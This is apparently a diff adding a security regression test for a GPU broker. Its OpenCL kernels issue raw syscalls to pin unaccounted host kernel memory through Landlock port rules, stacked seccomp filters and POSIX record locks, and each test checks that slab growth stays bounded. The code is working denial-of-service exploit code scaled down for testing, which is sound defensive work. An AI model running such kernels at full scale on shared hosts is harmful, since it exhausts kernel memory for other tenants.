@@ -1,0 +1,195 @@
+"""Kernel memory a tenant's kernel holds outside every limit of its worker: Landlock rules and POSIX record locks.
+
+The worker's seccomp filter refuses epoll, inotify, memfd, System V IPC, vmsplice and the rest because what they hold
+is kernel memory that neither RLIMIT_AS nor RLIMIT_DATA counts (without a delegated memory cgroup, as here, the
+worker's rlimits are its only memory bound). Two more such objects pass the filter, each with no count at all:
+
+- Landlock rulesets (``landlock_create_ruleset`` / ``landlock_add_rule``, allowed: nothing needs no_new_privs for
+  them). A ruleset that handles LANDLOCK_ACCESS_NET_BIND_TCP takes one rule per TCP port: 65,536 rules of
+  ``kmalloc-cg-64`` (3.5 MiB of unreclaimable slab) per descriptor, in about 0.1 s; RLIMIT_NOFILE's 4,096
+  descriptors hold ~14 GiB of host kernel memory that no rlimit of the worker sees (kmalloc-cg: only a memory
+  cgroup would charge it).
+- seccomp filters (``seccomp(SECCOMP_SET_MODE_FILTER)``, allowed: the worker runs with no_new_privs, which is all
+  an unprivileged filter needs). Each thread may stack filters up to its chain's instruction budget: 3,641
+  one-instruction filters, ~28 MiB of vmalloc and slab per thread in 0.4 s (measured on this host); with
+  ``worker_pids_max`` = 512 threads, ~14 GiB. (The JIT images count against the host-wide ``bpf_jit_limit`` too.)
+- POSIX byte-range locks (``fcntl(F_SETLK)`` with F_RDLCK on any file it can read, or OFD locks): one
+  ``file_lock_cache`` object (192 bytes) per disjoint range, unbounded per descriptor (RLIMIT_LOCKS is not
+  enforced by Linux). Locks are found by a list walk, so the attacker spreads them over files of its own /tmp.
+
+Each test makes a bounded amount (~60-120 MiB of kernel memory) and asserts the host's unreclaimable slab did not grow
+by more than ``ALLOWED`` while the worker holds it. Suggested fix: refuse the landlock_* system calls in the worker's
+filter once the launcher has applied its own ruleset (the worker needs none of its own), refuse seccomp(2) and
+prctl(PR_SET_SECCOMP) once the worker's own filters are loaded, and refuse F_SETLK,
+F_SETLKW, F_OFD_SETLK, F_OFD_SETLKW of fcntl (argument 1) or bound them (PoCL and Python's compile caches use
+flock/rename, not record locks: check sqlite, which pytools' cache may use, before refusing).
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from pathlib import Path
+
+import numpy as np
+import pytest
+
+from gpubroker.broker.launcher import BrokerProcess, TenantSpec
+from gpubroker.client import ModuleFormat, connect
+
+from ..exploits import SYSCALL_SOURCE, check_arch
+
+ALLOWED = 32 << 20  # what a worker's kernel objects outside its limits may take of the host's kernel memory
+RULESETS = 28  # x 65,536 port rules x 64 B: ~112 MiB
+LOCK_FILES, LOCKS_PER_FILE = 1600, 320  # 512,000 locks x 192 B: ~94 MiB
+
+SOURCE = SYSCALL_SOURCE + r"""
+/* Rulesets that handle bind(2) on TCP, each with a rule for every port. */
+__kernel void gpb_landlock(__global long* scratch, const long rulesets, __global long* res) {
+    scratch[0] = 0; scratch[1] = 1;                    /* landlock_ruleset_attr: fs 0, net BIND_TCP */
+    long made = 0, rules = 0, err = 0;
+    for (long r = 0; r < rulesets && !err; ++r) {
+        long fd = sys6(444, (long)scratch, 16, 0, 0, 0, 0);          /* landlock_create_ruleset */
+        if (fd < 0) { err = fd; break; }
+        res[8 + made++] = fd;
+        for (long port = 0; port < 65536; ++port) {
+            scratch[4] = 1; scratch[5] = port;                       /* landlock_net_port_attr */
+            long rc = sys6(445, fd, 2, (long)(scratch + 4), 0, 0, 0); /* landlock_add_rule(NET_PORT) */
+            if (rc < 0) { err = rc; break; }
+            rules++;
+        }
+    }
+    res[0] = made; res[1] = rules; res[2] = err;
+}
+
+/* Files of its own /tmp, each read-locked in many disjoint one-byte ranges (descending: no merge). */
+__kernel void gpb_locks(__global long* scratch, const long files, const long per_file, __global long* res) {
+    __global char* name = (__global char*)(scratch + 64);
+    long made = 0, locks = 0, err = 0, first = -1;
+    for (long f = 0; f < files && !err; ++f) {
+        /* "/tmp/gpblk-NNNNN" */
+        const char stem[] = "/tmp/gpblk-";
+        int n = 0;
+        for (; stem[n]; ++n) name[n] = stem[n];
+        long v = f;
+        for (int d = 4; d >= 0; --d) { name[n + d] = '0' + (char)(v % 10); v /= 10; }
+        name[n + 5] = 0;
+        long fd = sys6(257, -100, (long)name, 0102 | 02000000, 0600, 0, 0);  /* openat(O_RDWR|O_CREAT|O_CLOEXEC) */
+        if (fd < 0) { err = fd; break; }
+        if (first < 0) first = fd;
+        res[8 + made++] = fd;
+        __global short* fl = (__global short*)scratch;             /* struct flock */
+        for (long i = per_file; i > 0; --i) {
+            fl[0] = 0; fl[1] = 0;                                   /* l_type F_RDLCK, l_whence SEEK_SET */
+            scratch[1] = 2 * i; scratch[2] = 1; scratch[3] = 0;     /* l_start, l_len, l_pid */
+            long rc = sys6(72, fd, 6, (long)scratch, 0, 0, 0);      /* fcntl(F_SETLK) */
+            if (rc < 0) { err = rc; break; }
+            locks++;
+        }
+    }
+    res[0] = made; res[1] = locks; res[2] = err; res[3] = first;
+}
+
+/* Each work-item (a PoCL thread of its own) stacks one-instruction "allow" seccomp filters on its own thread until
+   the kernel refuses (the chain's instruction budget: a few thousand filters, each at least a page of vmalloc). */
+__kernel void gpb_seccomp(__global long* scratch, __global long* res) {
+    __global uint* insn = (__global uint*)(scratch + 8);
+    insn[0] = 0x06; insn[1] = 0x7fff0000;                   /* BPF_RET | BPF_K, SECCOMP_RET_ALLOW */
+    __global long* prog = scratch + 16 + 2 * get_global_id(0);
+    prog[0] = 1; prog[1] = (long)insn;                      /* sock_fprog: len 1, filter */
+    long n = 0, err = 0;
+    for (;;) {
+        long rc = sys6(317, 1, 0, (long)prog, 0, 0, 0);      /* seccomp(SECCOMP_SET_MODE_FILTER) */
+        if (rc < 0) { err = rc; break; }
+        n++;
+    }
+    res[2 * get_global_id(0)] = n; res[2 * get_global_id(0) + 1] = err;
+}
+
+/* Close the n descriptors listed from res[8] on (never one of the worker's own). */
+__kernel void gpb_close(__global const long* res, const long n) {
+    for (long i = 0; i < n; ++i) sys6(3, res[8 + i], 0, 0, 0, 0, 0);
+}
+"""
+
+
+def meminfo(*keys: str) -> int:
+    """The sum of these /proc/meminfo fields, in bytes."""
+    fields = dict(line.split(":", 1) for line in Path("/proc/meminfo").read_text().splitlines())
+    return sum(int(fields[k].split()[0]) * 1024 for k in keys)
+
+
+def unreclaimable_slab() -> int:
+    """The host's SUnreclaim (bytes): kernel memory no reclaim gives back."""
+    for line in Path("/proc/meminfo").read_text().splitlines():
+        if line.startswith("SUnreclaim:"):
+            return int(line.split()[1]) * 1024
+    raise AssertionError("no SUnreclaim in /proc/meminfo")
+
+
+@pytest.fixture(scope="module")
+def broker(tmp_path_factory: pytest.TempPathFactory) -> Iterator[BrokerProcess]:
+    check_arch()
+    tmp = tmp_path_factory.mktemp("kobjects")
+    with BrokerProcess([TenantSpec("mallory")], backend="opencl",
+                       settings={"cache_dir": str(tmp / "caches")}) as proc:
+        yield proc
+
+
+def test_landlock_rules_are_bounded(broker: BrokerProcess) -> None:
+    with connect(broker.target, token=broker.tokens["mallory"], timeout=120) as gpu:
+        module = gpu.load_module(SOURCE, ModuleFormat.OPENCL_C)
+        attack, close = gpu.get_kernel(module, "gpb_landlock"), gpu.get_kernel(module, "gpb_close")
+        scratch, res = gpu.allocate_memory(4096), gpu.allocate_memory(8 * (8 + RULESETS))
+        before = unreclaimable_slab()
+        gpu.execute_kernel(attack, 1, 1, [scratch, np.int64(RULESETS), res])
+        gpu.synchronize()
+        held = unreclaimable_slab() - before  # (the worker still holds every ruleset's descriptor)
+        out = np.empty(8 + RULESETS, dtype=np.int64)
+        gpu.copy_d2h(res, out)
+        made, rules, err = int(out[0]), int(out[1]), int(out[2])
+        if made:
+            gpu.execute_kernel(close, 1, 1, [res, np.int64(made)])
+            gpu.synchronize()
+    print(f"\nthe worker made {made} Landlock rulesets with {rules} rules (last error {err}); the host's "
+          f"unreclaimable slab grew by {held >> 20} MiB meanwhile")
+    assert held < ALLOWED, (f"a tenant's kernel held {held >> 20} MiB of host kernel memory in {rules} Landlock rules "
+                            f"({made} rulesets) that no limit of its worker counts")
+
+
+def test_posix_record_locks_are_bounded(broker: BrokerProcess) -> None:
+    with connect(broker.target, token=broker.tokens["mallory"], timeout=120) as gpu:
+        module = gpu.load_module(SOURCE, ModuleFormat.OPENCL_C)
+        attack, close = gpu.get_kernel(module, "gpb_locks"), gpu.get_kernel(module, "gpb_close")
+        scratch, res = gpu.allocate_memory(4096), gpu.allocate_memory(8 * (8 + LOCK_FILES))
+        before = unreclaimable_slab()
+        gpu.execute_kernel(attack, 1, 1, [scratch, np.int64(LOCK_FILES), np.int64(LOCKS_PER_FILE), res])
+        gpu.synchronize()
+        held = unreclaimable_slab() - before
+        out = np.empty(8, dtype=np.int64)
+        gpu.copy_d2h(res, out)
+        files, locks, err = (int(v) for v in out[:3])
+        if files:
+            gpu.execute_kernel(close, 1, 1, [res, np.int64(files)])
+            gpu.synchronize()
+    print(f"\nthe worker took {locks} record locks on {files} files (last error {err}); the host's unreclaimable "
+          f"slab grew by {held >> 20} MiB meanwhile")
+    assert held < ALLOWED, (f"a tenant's kernel held {held >> 20} MiB of host kernel memory in {locks} POSIX record "
+                            "locks that no limit of its worker counts")
+
+
+def test_seccomp_filters_are_bounded(broker: BrokerProcess) -> None:
+    # (last in the module: the attacker's PoCL threads keep thousands of filters, which slow its every system call)
+    with connect(broker.target, token=broker.tokens["mallory"], timeout=120) as gpu:
+        attack = gpu.get_kernel(gpu.load_module(SOURCE, ModuleFormat.OPENCL_C), "gpb_seccomp")
+        scratch, res = gpu.allocate_memory(4096), gpu.allocate_memory(64)
+        before = meminfo("VmallocUsed", "SUnreclaim")
+        gpu.execute_kernel(attack, 2, 1, [scratch, res])
+        gpu.synchronize()
+        held = meminfo("VmallocUsed", "SUnreclaim") - before
+        out = np.empty(8, dtype=np.int64)
+        gpu.copy_d2h(res, out)
+    filters = int(out[0] + out[2])
+    print(f"\nthe worker's kernel stacked {filters} seccomp filters on two threads ({out[0]}, {out[2]}; errors "
+          f"{out[1]}, {out[3]}); the host's vmalloc and unreclaimable slab grew by {held >> 20} MiB meanwhile")
+    assert held < ALLOWED, (f"a tenant's kernel held {held >> 20} MiB of host kernel memory in {filters} seccomp "
+                            "filters that no limit of its worker counts")
